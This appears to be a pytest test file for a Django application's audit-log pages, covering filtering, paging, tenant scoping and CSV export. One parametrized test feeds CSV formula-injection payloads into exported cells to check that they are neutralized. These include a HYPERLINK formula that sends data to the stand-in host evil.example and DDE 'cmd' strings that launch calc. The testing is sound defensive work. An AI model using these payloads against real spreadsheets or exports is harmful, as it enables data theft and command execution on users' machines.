"""Audit Logs pages of both consoles, the detail panel, and the CSV export."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from audit.models import Category
from audit.services import audit_event_record
from smtp.models import Email, EmailAttempt, EmailKind, EmailStatus

pytestmark = pytest.mark.django_db

OPS = "/ops/audit-logs/"
WEB = "/console/audit-logs/"


def test_the_partner_page_lists_events_of_its_organizations(demo, login, make_events):
    make_events(3, partner=demo["acme"], organization=demo["acme-prod"])
    make_events(2, partner=demo["globex"], organization=demo["globex-main"])
    html = (
        login(demo["acme_admin"]).get(OPS, {"category": "SYSTEMAUDIT"}).content.decode()
    )
    assert html.count('class="event"') == 3
    assert "3 events match" in html
    assert 'name="organization"' in html  # the partner view can narrow to one org


def test_the_org_page_lists_only_its_organization(demo, login, make_events):
    make_events(2, partner=demo["acme"], organization=demo["acme-prod"])
    make_events(4, partner=demo["acme"], organization=demo["acme-dev"])
    html = (
        login(demo["dev_admin"]).get(WEB, {"category": "SYSTEMAUDIT"}).content.decode()
    )
    assert html.count('class="event"') == 4
    assert 'name="organization"' not in html


def test_time_ranges_and_custom_windows(demo, login, make_events):
    make_events(1, partner=demo["acme"], organization=demo["acme-prod"])
    make_events(
        1,
        partner=demo["acme"],
        organization=demo["acme-prod"],
        start=timezone.now() - timedelta(hours=3),
    )
    client = login(demo["prod_admin"])

    def shown(**query) -> int:
        page = client.get(WEB, {"category": "SYSTEMAUDIT", **query})
        return page.content.decode().count('class="event"')

    assert shown(range="1h") == 1
    assert shown(range="24h") == 2
    start = (timezone.now() - timedelta(hours=4)).strftime("%Y-%m-%dT%H:%M")
    end = (timezone.now() - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M")
    assert shown(range="custom", **{"from": start, "to": end}) == 1


def test_a_bad_custom_time_shows_a_message(demo, login):
    response = login(demo["prod_admin"]).get(WEB, {"range": "custom", "from": "soon"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "From: &#x27;soon&#x27; is not a date and time" in html
    assert "timefrom" not in html


def test_a_hand_made_cursor_outside_the_calendar_shows_a_message(demo, login):
    # Found by an outside review: a cursor of year 9999 at -01:00 was a 500.
    cursor = base64.urlsafe_b64encode(b"9999-12-31T23:59:59-01:00|5").decode()
    response = login(demo["prod_admin"]).get(WEB, {"cursor": cursor.rstrip("=")})
    assert response.status_code == 200
    assert "This page link is out of date" in response.content.decode()
    assert 'class="event"' not in response.content.decode()


def test_paging_with_older_links(demo, login, make_events):
    make_events(
        120,
        partner=demo["acme"],
        organization=demo["acme-prod"],
        step=timedelta(seconds=5),
    )
    client = login(demo["prod_admin"])
    first = client.get(WEB, {"category": "SYSTEMAUDIT"}).content.decode()
    assert first.count('class="event"') == 50
    older = first.split('id="older"', 1)[0].rsplit('href="', 1)[1].split('"', 1)[0]
    second = client.get(WEB + older.replace("&amp;", "&")).content.decode()
    assert second.count('class="event"') == 50
    assert "event 50<" in second and "event 49<" not in second


def test_email_events_show_their_steps_and_link_to_the_email(demo, login):
    from audit.services import EventData, audit_events_record_bulk

    email = Email.objects.create(
        kind=EmailKind.ALERT,
        status=EmailStatus.FAILED,
        partner=demo["acme"],
        organization=demo["acme-prod"],
        recipient="ops@acme.example",
        subject="s",
        body="b",
        message_id="<m-1@test>",
        attempts=1,
    )
    steps = [
        {
            "name": "connect",
            "status": "ok",
            "duration_ms": 3,
            "reply_code": None,
            "reply": "",
            "detail": "Connected",
            "hint": "",
            "field": "",
        },
        {
            "name": "auth",
            "status": "failed",
            "duration_ms": 9,
            "reply_code": 535,
            "reply": "5.7.8 Authentication credentials invalid",
            "detail": "auth failed (535) for u@acme.example",
            "hint": "check both",
            "field": "password",
        },
    ]
    EmailAttempt.objects.create(
        email=email,
        number=1,
        started_at=email.created_at,
        duration_ms=12,
        ok=False,
        failed_step="auth",
        reply_code=535,
        steps=steps,
    )
    audit_events_record_bulk(
        [
            EventData(
                category=Category.SYSTEMAUDIT,
                type="email.failed",
                summary="Alert notification to ops@acme.example failed at auth",
                partner_id=demo["acme"].pk,
                organization_id=demo["acme-prod"].pk,
                detail={"email_id": email.pk, "step": "auth", "steps": steps},
            )
        ]
    )
    client = login(demo["prod_admin"])
    html = client.get(WEB, {"category": "SYSTEMAUDIT"}).content.decode()
    assert "auth failed (535) for u@acme.example" in html
    # steps named as in the live view of a test, not by their protocol names
    assert "<td>Authenticate</td>" in html
    assert "<code>auth</code>" not in html
    assert f'href="/console/emails/{email.pk}/"' in html
    detail = client.get(f"/console/emails/{email.pk}/").content.decode()
    assert "Attempt 1: failed at Authenticate (535)" in detail
    assert "5.7.8 Authentication credentials invalid" in detail
    # Another tenant cannot open it.
    assert (
        login(demo["globex_main_admin"]).get(f"/console/emails/{email.pk}/").status_code
        == 404
    )
    assert (
        login(demo["globex_admin"]).get(f"/ops/emails/{email.pk}/").status_code == 404
    )
    assert login(demo["acme_admin"]).get(f"/ops/emails/{email.pk}/").status_code == 200


def read_csv(response) -> list[dict]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_matches_the_filter(demo, login, make_events):
    make_events(
        30, partner=demo["acme"], organization=demo["acme-prod"], type="email.sent"
    )
    make_events(
        5, partner=demo["acme"], organization=demo["acme-prod"], type="email.failed"
    )
    make_events(
        4, partner=demo["acme"], organization=demo["acme-dev"], type="email.failed"
    )
    client = login(demo["acme_admin"])
    filters = {"range": "24h", "type": "email.failed", "organization": "acme-prod"}
    response = client.get(OPS + "export.csv", filters)
    assert response["Content-Type"] == "text/csv"
    assert "attachment;" in response["Content-Disposition"]
    rows = read_csv(response)
    api = client.get(
        "/opsauditlogs/",
        {
            "timefrom": "now-24h",
            "type": "email.failed",
            "organization": "acme-prod",
            "limit": "500",
        },
    ).json()
    assert [int(r["id"]) for r in rows] == [e["id"] for e in api["result"]]
    assert {r["type"] for r in rows} == {"email.failed"}
    assert {r["organization"] for r in rows} == {"acme-prod"}
    assert len(rows) == 5


def test_the_org_export_is_scoped_to_the_organization(demo, login, make_events):
    make_events(3, partner=demo["acme"], organization=demo["acme-prod"])
    make_events(3, partner=demo["acme"], organization=demo["acme-dev"])
    rows = read_csv(
        login(demo["dev_admin"]).get(WEB + "export.csv", {"category": "SYSTEMAUDIT"})
    )
    assert len(rows) == 3
    assert {r["organization"] for r in rows} == {"acme-dev"}


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_spreadsheets_would_run_are_quoted(demo, login, hostile):
    # given: tenant-controlled text at the start of the summary and actor cells
    audit_event_record(
        category=Category.AUDIT,
        type="user.password_set",
        summary=hostile,
        actor=hostile,
        partner_id=demo["acme"].pk,
        organization_id=demo["acme-prod"].pk,
        detail={"recipient": hostile},
    )
    audit_event_record(
        category=Category.AUDIT,
        type="user.password_set",
        summary="Plain summary",
        actor="org-admin@acme-prod.example",
        partner_id=demo["acme"].pk,
        organization_id=demo["acme-prod"].pk,
    )
    # when
    rows = read_csv(
        login(demo["prod_admin"]).get(WEB + "export.csv", {"category": "AUDIT"})
    )
    # then: the hostile cells are text (a leading quote), the others unchanged
    by_summary = {row["summary"]: row for row in rows}
    quoted = by_summary["'" + hostile]
    assert quoted["actor"] == "'" + hostile
    assert json.loads(quoted["detail"]) == {"recipient": hostile}
    plain = by_summary["Plain summary"]
    assert plain["actor"] == "org-admin@acme-prod.example"
    assert plain["type"] == "user.password_set"
    assert plain["organization"] == "acme-prod"
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )


def test_the_audit_pages_belong_to_their_consoles(demo, login):
    assert login(demo["prod_admin"]).get(OPS).status_code == 404
    assert login(demo["acme_admin"]).get(WEB).status_code == 404
    assert login(demo["prod_admin"]).get(OPS + "export.csv").status_code == 404
